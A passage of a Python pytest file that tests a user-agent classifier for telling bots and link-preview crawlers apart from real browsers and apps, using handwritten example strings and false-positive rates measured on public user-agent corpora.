        "125.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/125.0.0.0 Safari/537.36 (+https://example.org/about-our-robot)",
        "Mozilla/5.0 (Linux; Android 8.0; Pixel 2 Build/OPD3.170816.012; DuplexWeb-Google/1.0) "
        "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.131 Mobile Safari/537.36",
        # Automation drivers whose camel-case names split into harmless tokens.
        "Mozilla/5.0 (X11; Linux x86_64; rv:38.0) Gecko/20100101 SlimerJS/0.10.3",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0 WebDriver",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Nightmare/3.0 "
        "Safari/537.36",
    ],
)
def test_bots_no_list_names_are_caught_by_the_word_and_shape_rules(user_agent: str) -> None:
    from launchlink.kit.useragent import classify_without_lists

    assert classify_without_lists(user_agent).is_bot
    assert classify(user_agent).is_bot


def test_a_preview_bot_is_a_preview_class_and_keeps_the_old_flags() -> None:
    agent = classify(PREVIEW_BOTS[0])
    assert (agent.bot_class, agent.is_preview_bot, agent.is_bot, agent.is_human) == (
        "preview",
        True,
        True,
        False,
    )


def test_a_human_has_the_human_class_and_no_reason_to_suspect_it() -> None:
    agent = classify(HUMANS[0][0])
    assert (agent.bot_class, agent.is_human, agent.reason) == ("human", True, None)


def test_the_tokens_split_on_camel_case_and_punctuation() -> None:
    from launchlink.kit.useragent import tokens

    assert tokens("CybaaAgent/1.0 (GPTBot; Cronet)") == ["cybaa", "agent", "gpt", "bot", "cronet"]


@pytest.mark.parametrize(
    ("user_agent", "shaped"),
    [
        (HUMANS[0][0], True),
        ("Opera/9.80 (J2ME/MIDP; Opera Mini/4.2.14912/870; U; id) Presto/2.4.15", True),
        ("Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)", True),
        (
            "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like "
            "Gecko)",
            True,
        ),
        ("okhttp/4.12.0", False),
        ("Chrome", False),
        ("Mozilla/5.0 (compatible; Morningscore/1.0)", False),
    ],
)
def test_the_browser_grammar(user_agent: str, shaped: bool) -> None:
    from launchlink.kit.useragent import browser_shaped

    assert browser_shaped(user_agent) is shaped


# --- measured on public corpora (tests/_corpora.py) --------------------------------------


def _false_positives(user_agents: list[str]) -> list[tuple[str, str | None]]:
    return [(ua, agent.reason) for ua in user_agents if (agent := classify(ua)).is_bot]


def test_no_real_browser_of_the_fake_useragent_intoli_and_playwright_corpora_is_a_bot() -> None:
    from tests._corpora import fake_useragent_browsers, intoli_browsers, playwright_devices

    browsers = sorted(
        set(fake_useragent_browsers()) | set(intoli_browsers()) | set(playwright_devices())
    )
    assert len(browsers) > 1700
    assert _false_positives(browsers) == []


@pytest.fixture(scope="module")
def matomo() -> object:
    from tests._corpora import matomo as load

    return load()


def test_at_most_one_in_a_thousand_of_matomos_real_browsers_is_a_bot(matomo: object) -> None:
    from tests._corpora import MatomoCorpus

    assert isinstance(matomo, MatomoCorpus)
    assert len(matomo.browsers) > 30_000
    wrong = _false_positives(matomo.browsers)
    assert len(wrong) / len(matomo.browsers) <= 0.001, wrong[:20]


def test_matomos_held_out_bots_are_found_with_the_lists_and_without(matomo: object) -> None:
    from tests._corpora import MatomoCorpus

    from launchlink.kit.useragent import classify_without_lists

    assert isinstance(matomo, MatomoCorpus)
    held_out = [ua for ua, _ in matomo.bots_held_out()]
    assert len(held_out) > 600
    for classifier in (classify, classify_without_lists):
        found = sum(1 for ua in held_out if classifier(ua).is_bot)
        assert found / len(held_out) >= 0.97


def test_the_crawler_list_is_found_without_the_list_itself() -> None:
    # Leave-out: the list's own patterns are off; only the rules and crawlerdetect remain.
    from tests._corpora import crawler_list_instances

    from launchlink.kit.useragent import classify_without_lists

    instances = [ua for _, ua in crawler_list_instances()]
    found = sum(1 for ua in instances if classify_without_lists(ua).is_bot)
    assert found / len(instances) >= 0.97


# --- desktop browsers as they really are ---------------------------------------------------

_CHROME_WIN = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Safari/537.36"
)
_CHROME_MAC = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Safari/537.36"
)
_FIREFOX_LINUX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
_SAFARI_MAC = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Safari/605.1.15"
)

# Made-up robot names (none is in a list) in every place the rule looks.
DESKTOP_BROWSERS_WITH_A_ROBOT_APPENDED = [
    f"{_CHROME_WIN} Quillmark/1.2",
    f"{_CHROME_MAC} Pagewise",
    f"{_FIREFOX_LINUX} Pagequill/3.0.1",
    f"{_SAFARI_MAC} Contentwise/2.1",
    f"{_CHROME_WIN} Acme Pagewright",
    f"{_CHROME_WIN} Orbitly/2.0 (Acme Labs)",
    _CHROME_MAC.replace("Chrome/126.0.0.0 ", "Chrome/126.0.0.0 harvestly/1.0 "),
    _CHROME_WIN.replace("Chrome/126.0.0.0 ", "Prospectly/0.1 "),
    _SAFARI_MAC.replace("Version/", "quillpage Version/"),
]


@pytest.mark.parametrize("user_agent", DESKTOP_BROWSERS_WITH_A_ROBOT_APPENDED)
def test_a_desktop_browser_string_with_an_unknown_product_appended_is_a_bot(
    user_agent: str,
) -> None:
    from launchlink.kit.useragent import classify_without_lists

    agent = classify_without_lists(user_agent)
    assert agent.is_bot
    assert (agent.reason or "").startswith("appended:")


# Real browsers and apps that do append a product, and phones, where appending is normal.
DESKTOP_AND_APP_LOOK_ALIKES = [
    _CHROME_WIN,
    _CHROME_MAC,
    _FIREFOX_LINUX,
    _SAFARI_MAC,
    f"{_CHROME_WIN} Edg/126.0.2592.87",
    f"{_CHROME_WIN} OPR/111.0.0.0",
    _CHROME_WIN.replace(" Safari/", " YaBrowser/24.6.0.0 Yowser/2.5 Safari/"),
    f"{_CHROME_WIN} Vivaldi/6.8.3381.46",
    f"{_CHROME_MAC} Honorlock",
    f"{_CHROME_WIN} Avast/126.0.0.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
    "Safari/537.36 SteamDeck",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0.4896.127"
    " Safari/537.36 Tesla/2022.20.8",
    "Mozilla/5.0 (X11; Linux i686) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/31.0.1650.63 "
    "Safari/537.36 SUSE/31.0.1650.63",
    f"{_CHROME_WIN} WhaleBrowser/3.26",
    f"{_CHROME_WIN} QtWebEngine/5.15.2",
    # Electron apps name themselves and Electron; Spotify's CEF client names itself only.
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "discord/1.0.9153 Chrome/124.0.6367.243 Electron/30.2.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "1Password/8.10.36 Chrome/126.0.6478.183 Electron/31.3.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Obsidian/1.6.7 Chrome/124.0.6367.243 Electron/30.1.2 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Spotify/1.2.42.290 Safari/537.36",
    # Phones: apps and browsers append their names there, so the rule does not look.
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/18.4 Mobile/15E148 Safari/605.1.15 BingSapphire/31.2.430402003",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.5 Mobile/15E148 Safari/604.1 Ddg/17.5",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP2A.240705.005; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.122 Mobile Safari/537.36 Cronet",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Mobile Safari/537.36 Quillmark/1.2",
    "Mozilla/5.0 (Linux; Android 13; Pixel 7 Build/TQ3A.230901.001; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 "
    "musical_ly_2023505030 JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/musical_ly",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Mobile/15E148 Snapchat/13.0.0.43 (like Safari/8618.2.12.10.6, panda)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Mobile/15E148 Safari Line/14.9.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Mobile/15E148 MicroMessenger/8.0.49(0x18003137) NetType/WIFI Language/zh_CN",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Mobile/15E148 [Pinterest/iOS]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.5 Mobile/15E148 Safari/604.1 FxiOS/127.0",
]


@pytest.mark.parametrize("user_agent", DESKTOP_AND_APP_LOOK_ALIKES)
def test_browsers_and_apps_that_append_a_product_stay_human(user_agent: str) -> None:
    from launchlink.kit.useragent import classify_without_lists

    assert classify(user_agent).is_human, classify(user_agent).reason
    assert classify_without_lists(user_agent).is_human


IMPOSSIBLE_DESKTOP_BROWSERS = [
    _CHROME_WIN.replace("Chrome/126.0.0.0", "Chrome/63.0"),
    _CHROME_WIN.replace("Chrome/126.0.0.0 ", ""),
    _CHROME_WIN.replace(") AppleWebKit", ")AppleWebKit"),
    _CHROME_WIN.replace("like Gecko)", "like Gecko; AcmeProductFinder)"),
    _CHROME_WIN.replace("(Windows NT", "(acmelabs; Windows NT"),
    _CHROME_MAC.replace("10_15_7)", "10_15_7; TSM-acmeos-1253)"),
    "Mozilla/5.0 (acmelabs; Windows NT 10.0; Win64; x64; rv:84.0) Gecko/20100101 Firefox/84.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.10; rv:41.0) Gecko/20100101 Firefox/55.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:66.0) AcmeCMS/1.0",
    "Mozilla/5.0 (Windows NT 6.2; WOW64; rv:29.0) Gecko/20100101 /29.0 Acme-BV",
]


@pytest.mark.parametrize("user_agent", IMPOSSIBLE_DESKTOP_BROWSERS)
def test_a_desktop_browser_string_no_real_browser_sends_is_a_bot(user_agent: str) -> None:
    from launchlink.kit.useragent import classify_without_lists

    assert classify_without_lists(user_agent).is_bot


@pytest.mark.parametrize(
    "user_agent",
    [
        # Firefox 110 and later may keep "rv:109.0"; Firefox 4 still named the locale.
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
        "Mozilla/5.0 (X11; Linux x86_64; en; rv:2.0) Gecko/20100101 Firefox/4.0",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/109.0.5414.120 Safari/537.36",
        "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.10; rv:37.0) Servo/1.0 Firefox/37.0",
        "Mozilla/5.0 (X11; Linux x86_64; rv:25.0) Gecko/20100101 conkeror/1.0pre",
    ],
)
def test_real_desktop_browsers_are_not_impossible(user_agent: str) -> None:
    from launchlink.kit.useragent import impossible_desktop_browser

    assert not impossible_desktop_browser(user_agent, classify(user_agent).browser_family)
    assert classify(user_agent).is_human, classify(user_agent).reason


@pytest.mark.parametrize(
    "user_agent",
    [
        "Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.2.24; acme-agent) Gecko/20111107 "
        "Firefox/3.6.24",
        "Mozilla/5.0 (Linux; Android 15; GEC77) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.0.0 Mobile Safari/537.36 Acme-Optimizer-Agent",
        # Words only robots use, in strings no other rule catches.
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Mobile Safari/537.36 SiteAudit/2.0",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Mobile Safari/537.36 AcmeSEO/1.1",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) Version/17.5 Mobile/15E148 Safari/604.1 BacklinkWatch/3.0",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Mobile Safari/537.36 Acmereader (12 subscribers)",
    ],
)
def test_hyphenated_agents_and_seo_audit_words_are_bots(user_agent: str) -> None:
    from launchlink.kit.useragent import classify_without_lists

    assert classify_without_lists(user_agent).is_bot


def test_a_web_view_library_named_agent_is_no_robot() -> None:
    user_agent = (
        "Mozilla/5.0 (Linux; Android 12; SM-A125F Build/SP1A.210812.016; wv) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 AgentWeb/5.0.0"
    )
    assert classify(user_agent).is_human


@pytest.mark.parametrize(
    "user_agent",
    [
        "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.1.1d",
        "amaya/11.4.4 libwww/5.4.2",
        "NCSA_Mosaic/2.7b5 (X11;Linux 2.6.7 i686) libwww/2.12 modified",
        "Dillo/3.0.5",
        "w3m/0.5.3+git20230121",
    ],
)
def test_text_mode_and_early_browsers_are_humans(user_agent: str) -> None:
    assert classify(user_agent).is_human, classify(user_agent).reason


@pytest.mark.parametrize(
    "user_agent",
    ["W3C-checklink/4.3 [4.42] libwww-perl/5.805", "libwww-perl/6.72", "Lynxbot/1.0"],
)
def test_libwww_perl_and_robots_named_like_browsers_stay_bots(user_agent: str) -> None:
    assert classify(user_agent).is_bot
